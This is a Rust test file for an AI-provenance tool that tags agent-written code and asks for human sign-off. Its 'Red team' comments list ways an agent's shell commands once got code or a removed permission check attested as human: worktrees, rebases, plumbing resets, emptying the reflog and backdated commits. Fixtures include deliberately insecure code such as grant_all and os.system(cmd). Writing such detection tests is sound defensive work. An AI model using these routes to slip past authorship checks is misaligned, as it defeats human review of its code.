//! An agent that commits its own work inside one shell command (`... &&
//! git commit -am ...`, as agents without a co-author trailer do). git's
//! post-commit hook runs inside the command, before the hook after the
//! command (`PostToolUse`) records what it changed: the commit's note said
//! "no AI", and `vouch verify` passed the agent's code, and its removal of
//! a person's check, as attested human. The hook after the command now
//! notes again the commits made during it, from what it recorded. And a
//! link the command makes is not followed to the person's file it names.
//!
//! Through the real binary, real git and the hooks `vouch init` installs.

mod support {
    pub mod repo;
    pub mod run;
    pub mod vouch_repo;
}

use serde_json::{Value, json};
use support::vouch_repo::VouchRepo;

const POLICY: &str = "gate = \"warn\"\nreviewers = [\"alice@example.com\"]\n";
const AUTH: &str = "def f(u):\n    if not u.admin:\n        raise PermissionError()\n    return u.data\n";
/// The agent's function that grants everything, appended to a file.
const GRANT_ALL: &str = "\n\ndef grant_all(u):\n    return True\n";

fn start() -> VouchRepo {
    let repo = VouchRepo::init_with(&[(".vouch.toml", POLICY), ("src/auth.py", AUTH)], &[]);
    repo.ok(&["checkout", "-q", "-b", "feature"]);
    repo
}

/// Claude Code's Bash tool runs `command`, which `run` stands for, with
/// both hooks around it.
fn agent_shell(repo: &VouchRepo, id: &str, command: &str, run: impl FnOnce()) {
    let input = json!({ "command": command });
    repo.claude_hook("PreToolUse", "Bash", id, input.clone());
    run();
    repo.claude_hook("PostToolUse", "Bash", id, input);
}

/// The agent's shell command writes `grant_all` into `src/admin.py` and
/// drops the check from `src/auth.py` (`cat > ... && sed -i ...`), then
/// runs `then` (the rest of `command`).
fn agent_grants_all(repo: &VouchRepo, id: &str, command: &str, then: impl FnOnce()) {
    agent_shell(repo, id, &format!("cat > src/admin.py && sed -i 2,3d src/auth.py && {command}"), || {
        repo.write("src/admin.py", "def grant_all(u):\n    u.admin = True\n    return True\n");
        repo.write("src/auth.py", "def f(u):\n    return u.data\n");
        then();
    });
}

/// verify's failures over `main..HEAD` are exactly these units' (path,
/// name), each unapproved AI.
fn assert_unapproved(repo: &VouchRepo, units: &[(&str, &str)]) {
    let mut found = failures(repo);
    found.sort();
    let expected: Vec<(String, String, String)> =
        units.iter().map(|(path, name)| ("unapproved-ai".into(), path.to_string(), name.to_string())).collect();
    assert_eq!(found, expected);
}

/// HEAD's note does not attest "no AI", and verify over `main..HEAD`
/// asks for sign-off of the agent's `grant_all`.
fn assert_grant_all_needs_sign_off(repo: &VouchRepo) {
    assert!(!attests_no_ai(&repo.note("HEAD")), "{:?}", repo.note("HEAD"));
    let found = failures(repo);
    assert!(found.iter().any(|(_, _, name)| name == "grant_all"), "{found:?}");
}

/// The record of `path` in `note` (a note's records).
fn noted_file<'n>(note: &'n [Value], path: &str) -> &'n Value {
    note.iter().find(|r| r["path"] == path).unwrap_or_else(|| panic!("no record of {path}: {note:?}"))
}

/// Whether the records of a note attest "no AI".
fn attests_no_ai(note: &[Value]) -> bool {
    note.iter().any(|r| r["attest"] == "no-ai")
}

/// (rule, path, name) of verify's failures over `main..HEAD`.
fn failures(repo: &VouchRepo) -> Vec<(String, String, String)> {
    let (_, report) = repo.verify("main..HEAD");
    let text = |v: &Value| v.as_str().unwrap_or("").to_string();
    report["failures"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| (text(&f["rule"]), text(&f["path"]), text(&f["name"])))
        .collect()
}

/// `git ARGS` (a commit) dated long before now: a copy a cherry-pick
/// makes of it is a commit of its own (within the same second, with the
/// same parent, it would be the very same commit).
fn commit_long_ago(repo: &VouchRepo, args: &[&str]) {
    let out = repo.command("git", args).env("GIT_COMMITTER_DATE", "2026-01-01T00:00:00Z").output().unwrap();
    assert!(out.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&out.stderr));
}

#[test]
fn code_an_agent_writes_and_commits_in_one_command_is_noted_as_ai() {
    let repo = start();
    agent_shell(&repo, "toolu_1", "cat >> src/auth.py && git commit -qam add-g", || {
        let mut text = std::fs::read_to_string(repo.root().join("src/auth.py")).unwrap();
        text.push_str("\n\ndef g(u):\n    return u.secret\n");
        repo.write("src/auth.py", &text);
        repo.ok(&["commit", "-qam", "add g"]);
    });
    let note = repo.note("HEAD");
    assert!(!attests_no_ai(&note), "{note:?}");
    let file = noted_file(&note, "src/auth.py");
    assert_eq!(file["ai"], json!([[5, 8]]), "{note:?}");
    assert_eq!(failures(&repo), vec![("unapproved-ai".into(), "src/auth.py".into(), "g".into())]);
}

#[test]
fn a_check_an_agent_removes_and_commits_in_one_command_needs_sign_off() {
    let repo = start();
    agent_shell(&repo, "toolu_2", "sed -i 2,3d src/auth.py && git commit -qam simplify", || {
        repo.write("src/auth.py", "def f(u):\n    return u.data\n");
        repo.ok(&["commit", "-qam", "simplify"]);
    });
    let note = repo.note("HEAD");
    let file = noted_file(&note, "src/auth.py");
    assert_eq!(file["deleted_before"], json!([2]), "{note:?}");
    assert_eq!(failures(&repo), vec![("unapproved-ai".into(), "src/auth.py".into(), "f".into())]);
}

#[test]
fn commits_a_command_makes_are_noted_each_and_a_persons_earlier_commit_is_left_alone() {
    let repo = start();
    // A person's commit before the agent's command keeps its own note.
    repo.write("README", "notes\n");
    repo.ok(&["add", "README"]);
    repo.ok(&["commit", "-qm", "readme"]);
    let person = repo.note("HEAD");
    agent_shell(&repo, "toolu_3", "two commits", || {
        repo.write("src/one.py", "def one():\n    return 1\n");
        repo.ok(&["add", "src/one.py"]);
        repo.ok(&["commit", "-qm", "one"]);
        repo.write("src/two.py", "def two():\n    return 2\n");
        repo.ok(&["add", "src/two.py"]);
        repo.ok(&["commit", "-qm", "two"]);
    });
    assert_eq!(repo.note("HEAD~2"), person, "the person's commit before the command");
    for (rev, path) in [("HEAD~1", "src/one.py"), ("HEAD", "src/two.py")] {
        let note = repo.note(rev);
        let file = noted_file(&note, path);
        assert_eq!(file["ai"], json!([[1, 2]]), "{rev}: {note:?}");
    }
    let mut found = failures(&repo);
    found.sort();
    assert_eq!(
        found,
        vec![
            ("unapproved-ai".into(), "src/one.py".into(), "one".into()),
            ("unapproved-ai".into(), "src/two.py".into(), "two".into())
        ]
    );
}

/// An agent links a new path to a person's file (`ln -s`). The hook after
/// the command followed the link and recorded the person's whole file as
/// the agent's: a record that lies. A link is not followed.
#[test]
fn a_link_an_agent_makes_does_not_make_the_file_it_names_the_agents() {
    let repo = start();
    agent_shell(&repo, "toolu_4", "ln -s auth.py src/login.py", || {
        std::os::unix::fs::symlink("auth.py", repo.root().join("src/login.py")).unwrap();
    });
    let run = repo.vouch_ok(&["blame", "src/auth.py", "--format", "json"]);
    let blame: Value = serde_json::from_str(&run.stdout).unwrap();
    let origins: Vec<&str> = blame["lines"].as_array().unwrap().iter().filter_map(|l| l["origin"].as_str()).collect();
    assert!(!origins.is_empty() && origins.iter().all(|o| *o != "ai"), "{blame:#}");
}

/// Red team: the commit an agent's command made kept the "no AI" note the
/// post-commit hook wrote inside the command when the same command then
/// moved HEAD on: it committed on a branch of its own and went back
/// (`git checkout -b fix && ... && git commit && git checkout feature`),
/// switched away and back, or rebased its commit (`git pull --rebase`, `git
/// rebase main`). The hook after the command found no commit to note again
/// (it looked back through HEAD's history only to where HEAD had been, and
/// only while the file was still in the worktree), and verify passed the
/// agent's code as attested human. Every commit made during the command,
/// and every copy a rebase made of one, is noted with what the command
/// wrote, whether or not the worktree still holds it.
#[test]
fn commits_an_agent_makes_and_moves_away_from_in_one_command_are_noted_as_ai() {
    let run_py = "import os\n\n\ndef run(cmd):\n    os.system(cmd)\n";
    let write_and_commit = |repo: &VouchRepo| {
        repo.write("src/run.py", run_py);
        repo.ok(&["add", "src/run.py"]);
        repo.ok(&["commit", "-qm", "run"]);
    };

    // What the command alone is found to have written: the import and the
    // function.
    let repo = start();
    agent_shell(&repo, "toolu_0", "... && git commit", || write_and_commit(&repo));
    let expected = failures(&repo);
    assert_eq!(
        expected,
        vec![
            ("unapproved-ai".into(), "src/run.py".into(), "".into()),
            ("unapproved-ai".into(), "src/run.py".into(), "run".into())
        ]
    );

    // On a branch of its own, then back to the branch it was on.
    let repo = start();
    agent_shell(&repo, "toolu_a", "git checkout -b fix-run && ... && git commit && git checkout feature", || {
        repo.ok(&["checkout", "-q", "-b", "fix-run"]);
        write_and_commit(&repo);
        repo.ok(&["checkout", "-q", "feature"]);
    });
    let note = repo.note("fix-run");
    let file = noted_file(&note, "src/run.py");
    assert_eq!(file["ai"], json!([[1, 5]]), "{note:?}");
    repo.ok(&["checkout", "-q", "fix-run"]);
    assert_eq!(failures(&repo), expected);

    // Switched away and back after committing (the branch started where
    // main is, so HEAD passes where it was before the command).
    let repo = start();
    agent_shell(&repo, "toolu_b", "... && git commit && git checkout main && git checkout -", || {
        write_and_commit(&repo);
        repo.ok(&["checkout", "-q", "main"]);
        repo.ok(&["checkout", "-q", "-"]);
    });
    assert_eq!(failures(&repo), expected);

    // Rebased onto a main that moved on: the agent's commit is noted, and
    // a teammate's file the rebase brought is not taken for the agent's.
    let repo = start();
    repo.ok(&["checkout", "-q", "main"]);
    repo.write("src/other.py", "def other():\n    return 2\n");
    repo.ok(&["add", "src/other.py"]);
    repo.ok(&["commit", "-qm", "other"]);
    repo.ok(&["checkout", "-q", "feature"]);
    let input = json!({ "command": "... && git commit && git rebase main" });
    repo.claude_hook("PreToolUse", "Bash", "toolu_c", input.clone());
    write_and_commit(&repo);
    repo.ok(&["rebase", "-q", "main"]);
    let after = repo.claude_hook("PostToolUse", "Bash", "toolu_c", input);
    assert!(!after.stderr.contains("other.py"), "{after:?}");
    let note = repo.note("HEAD");
    assert!(!attests_no_ai(&note), "{note:?}");
    assert_eq!(failures(&repo), expected);
}

/// Red team, round two, against the rule above: a teammate's commit the
/// agent's command cherry-picks, or a teammate's branch it merges, is the
/// teammate's work: it was recorded as the agent's, and verify asked for
/// sign-off of the teammate's code as AI.
#[test]
fn a_teammates_commit_an_agent_cherry_picks_or_merges_stays_the_teammates() {
    for how in ["cherry-pick", "merge"] {
        let repo = start();
        repo.ok(&["checkout", "-q", "-b", "bob", "main"]);
        repo.write("src/bob.py", "def bob_helper(x):\n    return x * 2\n");
        repo.ok(&["add", "src/bob.py"]);
        repo.ok(&["commit", "-q", "--no-verify", "-m", "bob's helper"]);
        repo.ok(&["checkout", "-q", "feature"]);
        let input = json!({ "command": format!("git {how} bob") });
        repo.claude_hook("PreToolUse", "Bash", "toolu_bob", input.clone());
        match how {
            "cherry-pick" => repo.ok(&["cherry-pick", "bob"]),
            _ => repo.ok(&["merge", "-q", "--no-ff", "-m", "merge bob", "bob"]),
        };
        let after = repo.claude_hook("PostToolUse", "Bash", "toolu_bob", input);
        assert!(!after.stderr.contains("bob.py"), "{how}: {after:?}");
        assert_eq!(failures(&repo), Vec::<(String, String, String)>::new(), "{how}");
    }
}

/// Red team, round two: an agent's command that commits in a linked
/// worktree of its own (`git worktree add ../wt -b fix && cd ../wt && ...
/// && git commit`) left its commit noted "no AI": the hook read the
/// reflog of its own worktree only. Every worktree's gains are read.
#[test]
fn a_commit_an_agent_makes_in_a_worktree_of_its_own_is_noted_as_ai() {
    let repo = start();
    let wt = repo.root().parent().unwrap().join(format!("{}-wt", repo.root().file_name().unwrap().to_string_lossy()));
    let wt_arg = wt.display().to_string();
    agent_shell(&repo, "toolu_wt", "git worktree add ../wt -b agent-fix && cd ../wt && ... && git commit", || {
        repo.ok(&["worktree", "add", "-q", &wt_arg, "-b", "agent-fix"]);
        std::fs::write(wt.join("src/run.py"), "import os\n\n\ndef run(cmd):\n    os.system(cmd)\n").unwrap();
        repo.ok(&["-C", &wt_arg, "add", "src/run.py"]);
        repo.ok(&["-C", &wt_arg, "commit", "-qm", "run"]);
    });
    let note = repo.note("agent-fix");
    let file = noted_file(&note, "src/run.py");
    assert_eq!(file["ai"], json!([[1, 5]]), "{note:?}");
    let (code, _) = repo.verify("main..agent-fix");
    assert_eq!(code, 1);
    let _ = std::fs::remove_dir_all(&wt);
}

/// Red team (this session): the agent works in a worktree of its own (the
/// person added it for the agent, as agents' worktree modes do) and
/// commits there; the person copies its file into the main worktree and
/// commits. The main worktree's HEAD was never on that branch, so nothing
/// named it as a source, and the commit was noted "no AI". What the other
/// worktrees' HEADs were on counts as much as what this one's was.
#[test]
fn an_agents_commit_in_its_worktree_copied_over_by_hand_stays_ai() {
    let repo = start();
    let wt = linked_worktree(&repo);
    let text = format!("{AUTH}{GRANT_ALL}");
    std::fs::write(wt.join("src/auth.py"), &text).unwrap();
    let payload = json!({
        "session_id": "s-1",
        "cwd": wt,
        "hook_event_name": "PostToolUse",
        "tool_name": "Write",
        "tool_use_id": "toolu_wt",
        "tool_input": {"file_path": wt.join("src/auth.py"), "content": text},
    });
    let run = repo.vouch_in(&wt, &["hook", "claude-code"], Some(payload.to_string().as_bytes()));
    assert_eq!(run.code, 0, "{run:?}");
    repo.ok(&["-C", &wt.display().to_string(), "commit", "-qam", "grant_all"]);
    assert!(!attests_no_ai(&repo.note("wt")), "{:?}", repo.note("wt"));
    repo.write("src/auth.py", &text);
    repo.ok(&["commit", "-qam", "grant_all, by hand"]);
    assert_grant_all_needs_sign_off(&repo);
    let _ = std::fs::remove_dir_all(&wt);
}

/// Red team, round three: the same command, which then brings the
/// worktree's branch back into its own (`... && git commit && cd - && git
/// merge --no-ff fix`, or `git cherry-pick fix`), left that commit noted
/// "no AI": the commit's file was in the worktree the hook compared, so it
/// took it for what the hook had seen, though the merge had brought it
/// there and the hook had set it aside as the merge's.
#[test]
fn a_commit_an_agent_makes_in_a_worktree_and_merges_back_is_noted_as_ai() {
    for (how, bring) in [
        ("merge --no-ff", &["merge", "-q", "--no-ff", "-m", "merge fix", "agent-fix"][..]),
        ("cherry-pick", &["cherry-pick", "agent-fix"][..]),
    ] {
        let repo = start();
        let wt =
            repo.root().parent().unwrap().join(format!("{}-wt", repo.root().file_name().unwrap().to_string_lossy()));
        let wt_arg = wt.display().to_string();
        agent_shell(
            &repo,
            "toolu_wt",
            &format!(
                "git worktree add ../wt -b agent-fix && cd ../wt && ... && git commit && cd - && git {how} agent-fix"
            ),
            || {
                repo.ok(&["worktree", "add", "-q", &wt_arg, "-b", "agent-fix"]);
                std::fs::write(wt.join("src/run.py"), "import os\n\n\ndef run(cmd):\n    os.system(cmd)\n").unwrap();
                repo.ok(&["-C", &wt_arg, "add", "src/run.py"]);
                commit_long_ago(&repo, &["-C", &wt_arg, "commit", "-qm", "run"]);
                repo.ok(bring);
            },
        );
        let note = repo.note("agent-fix");
        assert!(!attests_no_ai(&note), "{how}: {note:?}");
        // The import is a unit of its own.
        assert_unapproved(&repo, &[("src/run.py", ""), ("src/run.py", "run")]);
        let _ = std::fs::remove_dir_all(&wt);
    }
}

/// Red team, round three: an agent's `git rebase main` of a person's two
/// commits, the second changing a line of the first, made that line the
/// agent's. The rebase's last reflog entry (`rebase (finish)`) was read
/// first and reached the copies as commits the command made with plumbing;
/// what the reflog says made each commit is read before.
#[test]
fn a_persons_commits_an_agent_rebases_stay_the_persons() {
    let repo = start();
    let mut text = AUTH.to_string();
    text.push_str("\n\ndef limit(u):\n    return 10\n");
    repo.write("src/auth.py", &text);
    repo.ok(&["commit", "-qam", "limit"]);
    repo.write("src/auth.py", &text.replace("return 10", "return 20"));
    repo.ok(&["commit", "-qam", "raise the limit"]);
    repo.ok(&["checkout", "-q", "main"]);
    repo.write("README", "readme\n");
    repo.ok(&["add", "README"]);
    repo.ok(&["commit", "-qm", "readme"]);
    repo.ok(&["checkout", "-q", "feature"]);

    agent_shell(&repo, "toolu_rb", "git rebase main", || {
        repo.ok(&["rebase", "-q", "main"]);
    });
    for rev in ["HEAD~1", "HEAD"] {
        let note = repo.note(rev);
        assert!(attests_no_ai(&note), "{rev}: {note:?}");
    }
    assert_eq!(failures(&repo), Vec::<(String, String, String)>::new());
}

/// Red team, round three: an agent's command that commits its own
/// function and merges a teammate's branch (`... && git commit -am helper
/// && git pull --no-rebase`), or merges first and commits after, made the
/// teammate's line in the same file the agent's: the hook compared the
/// file with what it was before the command, the merge's lines included.
#[test]
fn a_teammates_line_an_agents_merge_brings_is_not_the_agents() {
    for merge_first in [false, true] {
        let repo = start();
        repo.ok(&["checkout", "-q", "-b", "carol"]);
        repo.write("src/auth.py", &AUTH.replace("def f(u):\n", "def f(u):\n    audit(u)\n"));
        repo.ok(&["commit", "-qam", "carol: audit"]);
        repo.ok(&["checkout", "-q", "feature"]);
        let merge = || repo.ok(&["merge", "-q", "--no-ff", "--no-edit", "carol"]);
        agent_shell(
            &repo,
            "toolu_pull",
            "cat >> src/auth.py && git commit -qam helper && git pull --no-rebase",
            || {
                if merge_first {
                    merge();
                }
                let mut text = std::fs::read_to_string(repo.root().join("src/auth.py")).unwrap();
                text.push_str("\n\ndef helper():\n    return 1\n");
                repo.write("src/auth.py", &text);
                repo.ok(&["commit", "-qam", "helper"]);
                if !merge_first {
                    merge();
                }
            },
        );
        let found = failures(&repo);
        assert_eq!(
            found,
            vec![("unapproved-ai".into(), "src/auth.py".into(), "helper".into())],
            "merge first: {merge_first}"
        );
    }
}

/// Red team, round three: a person's uncommitted edit, carried over a
/// pull by the agent's `git stash && git pull && git stash pop` (or `git
/// pull --rebase --autostash`), became the agent's: a file the pull
/// brought was compared with HEAD's new version only, not with what the
/// worktree held before the command.
#[test]
fn a_persons_edit_an_agents_stash_carries_over_a_pull_stays_theirs() {
    let repo = start();
    repo.ok(&["checkout", "-q", "-b", "carol"]);
    repo.write("src/auth.py", &AUTH.replace("def f(u):\n", "def f(u):\n    audit(u)\n"));
    repo.ok(&["commit", "-qam", "carol: audit"]);
    repo.ok(&["checkout", "-q", "feature"]);
    // The person's own edit, not committed yet.
    repo.write("src/auth.py", &AUTH.replace("return u.data", "return u.data.copy()"));
    agent_shell(&repo, "toolu_sp", "git stash && git pull && git stash pop", || {
        repo.ok(&["stash", "-q"]);
        repo.ok(&["merge", "-q", "--ff-only", "carol"]);
        repo.ok(&["stash", "pop", "-q"]);
    });
    let text = std::fs::read_to_string(repo.root().join("src/auth.py")).unwrap();
    assert!(text.contains("audit(u)") && text.contains("copy()"), "{text}");
    repo.ok(&["commit", "-qam", "copy the data"]);
    assert!(attests_no_ai(&repo.note("HEAD")), "{:?}", repo.note("HEAD"));
    assert_eq!(failures(&repo), Vec::<(String, String, String)>::new());
}

/// A linked worktree of the repository, `<root>-wt` on branch `wt`, made
/// by a person before any command ran; its path.
fn linked_worktree(repo: &VouchRepo) -> std::path::PathBuf {
    let wt = repo.root().parent().unwrap().join(format!("{}-wt", repo.root().file_name().unwrap().to_string_lossy()));
    repo.ok(&["worktree", "add", "-q", &wt.display().to_string(), "-b", "wt"]);
    wt
}

/// Red team, round three: the agent's command edits a file in another
/// worktree of the repository (`cd ../wt && sed -i ... src/auth.py`); the
/// person commits there later. The snapshot covered only the worktree the
/// command started in, so nothing was recorded, and the commit that drops
/// the check was noted "no AI". The worktrees a command names are kept
/// too, and what it changes there is recorded in theirs.
#[test]
fn an_agents_edit_in_another_worktree_it_names_is_recorded_there() {
    let repo = start();
    let wt = linked_worktree(&repo);
    let wt_arg = wt.display().to_string();
    let command = format!("cd {wt_arg} && sed -i 2,3d src/auth.py");
    agent_shell(&repo, "toolu_wte", &command, || {
        std::fs::write(wt.join("src/auth.py"), "def f(u):\n    return u.data\n").unwrap();
    });
    repo.ok(&["-C", &wt_arg, "commit", "-qam", "simplify"]);
    let note = repo.note("wt");
    assert!(!attests_no_ai(&note), "{note:?}");
    assert_eq!(noted_file(&note, "src/auth.py")["deleted_before"], json!([2]), "{note:?}");
    let (code, _) = repo.verify("main..wt");
    assert_eq!(code, 1);
    let _ = std::fs::remove_dir_all(&wt);
}

/// Red team, round three: the agent's command commits a person's
/// uncommitted work in another worktree (`cd ../wt && git commit -am
/// ...`): the commit was compared with the snapshot of the worktree the
/// command started in, so the person's line became the agent's. It is
/// compared with the snapshot of its own worktree.
#[test]
fn a_persons_work_an_agent_commits_in_another_worktree_stays_theirs() {
    let repo = start();
    let wt = linked_worktree(&repo);
    let wt_arg = wt.display().to_string();
    std::fs::write(wt.join("src/auth.py"), AUTH.replace("return u.data", "return u.data.copy()")).unwrap();
    agent_shell(&repo, "toolu_wtc", &format!("cd {wt_arg} && git commit -qam copy"), || {
        repo.ok(&["-C", &wt_arg, "commit", "-qam", "copy"]);
    });
    assert!(repo.note("wt").iter().all(|r| r["path"] != "src/auth.py"), "{:?}", repo.note("wt"));
    let (code, report) = repo.verify("main..wt");
    assert_eq!(code, 0, "{report}");
    let _ = std::fs::remove_dir_all(&wt);
}

/// Red team, round three (second pass): the agent commits its own
/// function on `feature`, then in a second command carries it to another
/// branch uncommitted (`git checkout other && git checkout feature --
/// src/auth.py`, or `git cherry-pick -n feature`). The file a move of HEAD
/// brought was narrowed by what the worktree held before the command,
/// which was HEAD's version, the agent's committed lines included: nothing
/// was recorded, and the person's commit on `other` was noted "no AI".
/// Only what the worktree held uncommitted is left out. Committed in the
/// same command (`... && git commit`), the commit was noted "no AI" (the
/// worktree had held the text before the command, as a person's own would
/// have been), in every build: AI text from a branch HEAD left is AI where
/// it lands.
#[test]
fn an_agents_committed_code_carried_to_another_branch_stays_ai() {
    let carries = [&["checkout", "feature", "--", "src/auth.py"][..], &["cherry-pick", "-n", "feature"][..]];
    for (carry, commits) in carries.into_iter().flat_map(|c| [(c, false), (c, true)]) {
        let repo = start();
        repo.ok(&["checkout", "-q", "-b", "other", "main"]);
        repo.write("NOTES.md", "notes\n");
        repo.ok(&["add", "NOTES.md"]);
        repo.ok(&["commit", "-qm", "notes"]);
        repo.ok(&["checkout", "-q", "feature"]);
        let mut text = AUTH.to_string();
        text.push_str(GRANT_ALL);
        agent_shell(&repo, "toolu_c1", "cat >> src/auth.py && git commit -qam wip", || {
            repo.write("src/auth.py", &text);
            repo.ok(&["commit", "-qam", "wip"]);
        });
        agent_shell(&repo, "toolu_c2", &format!("git checkout other && git {}", carry.join(" ")), || {
            repo.ok(&["checkout", "-q", "other"]);
            repo.ok(carry);
            if commits {
                repo.ok(&["commit", "-qm", "bring grant_all"]);
            }
        });
        // The person commits it, or the command did (`... && git commit`).
        if !commits {
            repo.ok(&["commit", "-qam", "bring grant_all"]);
        }
        assert!(!attests_no_ai(&repo.note("HEAD")), "{carry:?} {commits}: {:?}", repo.note("HEAD"));
        let (code, _) = repo.verify("main..other");
        assert_eq!(code, 1, "{carry:?} {commits}");
    }
}

/// Red team, round three (second pass): the agent's command adds a
/// worktree and leaves its text there uncommitted (`git worktree add ../w
/// other && cd ../w && git checkout feature -- src/auth.py`, or an edit);
/// the person commits there. Only commits made in a worktree the command
/// added were looked at, so the commit was noted "no AI". What a worktree
/// the command added holds beyond the commit it was added at is the
/// command's.
#[test]
fn what_an_agent_leaves_uncommitted_in_a_worktree_it_adds_is_recorded_there() {
    let repo = start();
    let wt = repo.root().parent().unwrap().join(format!("{}-new", repo.root().file_name().unwrap().to_string_lossy()));
    let wt_arg = wt.display().to_string();
    agent_shell(
        &repo,
        "toolu_nw",
        "git worktree add ../new -b other main && cd ../new && sed -i 2,3d src/auth.py",
        || {
            repo.ok(&["worktree", "add", "-q", &wt_arg, "-b", "other", "main"]);
            std::fs::write(wt.join("src/auth.py"), "def f(u):\n    return u.data\n").unwrap();
        },
    );
    repo.ok(&["-C", &wt_arg, "commit", "-qam", "simplify"]);
    let note = repo.note("other");
    assert!(!attests_no_ai(&note), "{note:?}");
    assert_eq!(noted_file(&note, "src/auth.py")["deleted_before"], json!([2]), "{note:?}");
    let _ = std::fs::remove_dir_all(&wt);

    // Third pass: nor when the command dates the worktree's addition back
    // (`GIT_COMMITTER_DATE=2001-01-01 git worktree add ...`), nor when it
    // adds it on an unborn branch and commits there (its first reflog
    // entry is that commit, not where it was added).
    let repo = start();
    agent_shell(
        &repo,
        "toolu_old",
        "GIT_COMMITTER_DATE=2001-01-01T00:00:00 git worktree add ../new ... && sed ...",
        || {
            let run = repo
                .command("git", &["worktree", "add", "-q", &wt_arg, "-b", "other", "main"])
                .env("GIT_COMMITTER_DATE", "2001-01-01T00:00:00")
                .output()
                .unwrap();
            assert!(run.status.success(), "{run:?}");
            std::fs::write(wt.join("src/auth.py"), "def f(u):\n    return u.data\n").unwrap();
        },
    );
    repo.ok(&["-C", &wt_arg, "commit", "-qam", "simplify"]);
    assert!(!attests_no_ai(&repo.note("other")), "{:?}", repo.note("other"));
    let _ = std::fs::remove_dir_all(&wt);

    let repo = start();
    agent_shell(
        &repo,
        "toolu_orphan",
        "git worktree add --orphan -b pages ../new && cd ../new && ... && git commit",
        || {
            repo.ok(&["worktree", "add", "-q", "--orphan", "-b", "pages", &wt_arg]);
            std::fs::write(wt.join("run.py"), "import os\n\n\ndef run(cmd):\n    os.system(cmd)\n").unwrap();
            repo.ok(&["-C", &wt_arg, "add", "run.py"]);
            repo.ok(&["-C", &wt_arg, "commit", "-qm", "pages"]);
        },
    );
    let note = repo.note("pages");
    assert_eq!(noted_file(&note, "run.py")["ai"], json!([[1, 5]]), "{note:?}");
    let _ = std::fs::remove_dir_all(&wt);
}

/// Red team, round three (third pass): counting what a commit the command
/// makes adds to its parent made a person's commits the agent amends or
/// squashes (`git commit --amend -m ...`, `git reset --soft HEAD~1 && git
/// commit`) the agent's. What the worktree held before the command is not
/// the command's; the AI lines of commits it re-commits come from their
/// notes (post-rewrite, the commits that left HEAD's history). Carrying
/// its own committed code to another branch and committing it there in
/// the same command is, for now, a gap (those commits' notes are not
/// sources there).
#[test]
fn a_persons_commits_an_agent_amends_or_squashes_stay_the_persons() {
    for redo in ["git commit --amend -m better", "git reset --soft HEAD~1 && git commit -m redo"] {
        let repo = start();
        repo.write("src/auth.py", &format!("{AUTH}\n\ndef can_edit(u, d):\n    return u.id == d.owner\n"));
        repo.ok(&["commit", "-qam", "can_edit"]);
        agent_shell(&repo, "toolu_redo", redo, || {
            if redo.starts_with("git reset") {
                repo.ok(&["reset", "-q", "--soft", "HEAD~1"]);
                repo.ok(&["commit", "-qm", "redo"]);
            } else {
                repo.ok(&["commit", "-q", "--amend", "-m", "better"]);
            }
        });
        assert!(repo.note("HEAD").iter().all(|r| r["path"] != "src/auth.py"), "{redo}: {:?}", repo.note("HEAD"));
        assert_eq!(failures(&repo), Vec::<(String, String, String)>::new(), "{redo}");
    }
}

/// Red team, round three (second pass): the first commit of a branch with
/// no commit yet (a new repository, `git worktree add --orphan`), made by
/// the agent's command, was noted "no AI": with no HEAD when the snapshot
/// was taken, what the commits hold was not compared.
#[test]
fn the_first_commit_an_agent_makes_on_an_unborn_branch_is_noted_as_ai() {
    let repo = VouchRepo::new();
    repo.write(".vouch.toml", POLICY);
    repo.vouch_ok(&["init"]);
    agent_shell(&repo, "toolu_first", "cat > src/run.py && git add -A && git commit -qm start", || {
        repo.write("src/run.py", "import os\n\n\ndef run(cmd):\n    os.system(cmd)\n");
        repo.ok(&["add", "src/run.py"]);
        repo.ok(&["commit", "-qm", "start"]);
    });
    let note = repo.note("HEAD");
    assert!(!attests_no_ai(&note), "{note:?}");
    assert_eq!(noted_file(&note, "src/run.py")["ai"], json!([[1, 5]]), "{note:?}");
}

/// Red team, round three (second pass): the agent moves its branch back
/// with plumbing and commits again what it had committed (`git update-ref
/// refs/heads/feature HEAD~1 && git commit`, a `reset --soft` by another
/// name): the commit that left HEAD's history was not a source, so the
/// re-commit was noted "no AI". A move of HEAD back to an ancestor, however
/// made, leaves the commits past it as sources, as a reset does.
#[test]
fn a_commit_redone_after_moving_the_branch_back_with_plumbing_keeps_its_ai_lines() {
    let repo = start();
    agent_shell(&repo, "toolu_u1", "cat >> src/auth.py && git commit -qam wip", || {
        repo.write("src/auth.py", &format!("{AUTH}{GRANT_ALL}"));
        repo.ok(&["commit", "-qam", "wip"]);
    });
    agent_shell(&repo, "toolu_u2", "git update-ref refs/heads/feature HEAD~1 && git commit -qm redo", || {
        repo.ok(&["update-ref", "refs/heads/feature", "HEAD~1"]);
        repo.ok(&["commit", "-qm", "redo"]);
    });
    assert_grant_all_needs_sign_off(&repo);
}

/// Red team, round two: a command that empties the reflog after it
/// commits (`git reflog expire --expire=now --all`) left nothing to find
/// its commits by. The commits HEAD reached since the command began, made
/// after it began, are the command's.
#[test]
fn commits_an_agent_makes_are_found_after_it_empties_the_reflog() {
    let repo = start();
    agent_shell(&repo, "toolu_x", "... && git commit && git reflog expire --expire=now --all", || {
        repo.write("src/run.py", "import os\n\n\ndef run(cmd):\n    os.system(cmd)\n");
        repo.ok(&["add", "src/run.py"]);
        repo.ok(&["commit", "-qm", "run"]);
        repo.ok(&["reflog", "expire", "--expire=now", "--all"]);
    });
    let note = repo.note("HEAD");
    assert!(!attests_no_ai(&note), "{note:?}");
    let found = failures(&repo);
    assert!(found.iter().any(|(_, _, name)| name == "run"), "{found:?}");
}

/// `AUTH` with the check's error worded `how`.
fn worded(how: &str) -> String {
    AUTH.replace("PermissionError()", &format!("PermissionError(\"{how}\")"))
}

/// Diverged lines of `src/auth.py`: `feature` and `main` each reword the
/// check's error, so merging `main` into `feature` conflicts.
fn conflicting() -> VouchRepo {
    let repo = start();
    repo.write("src/auth.py", &worded("feature"));
    repo.ok(&["commit", "-qam", "feature's wording"]);
    repo.ok(&["checkout", "-q", "main"]);
    repo.write("src/auth.py", &worded("main"));
    repo.ok(&["commit", "-qam", "main's wording"]);
    repo.ok(&["checkout", "-q", "feature"]);
    repo
}

/// Red team, twentieth session: an agent's command that merges, resolves
/// the conflict itself and concludes the merge (`git merge main; ...; git
/// commit --no-edit`) left the merge commit noted "no AI", and verify
/// passed the agent's resolution, a check it dropped and a function it
/// added, as attested human: the hook took the merged file for what the
/// merge brought. What the merge commit holds that neither parent has is
/// the command's, and so is a removal of lines both parents kept.
#[test]
fn a_conflict_an_agent_resolves_and_commits_in_one_command_needs_sign_off() {
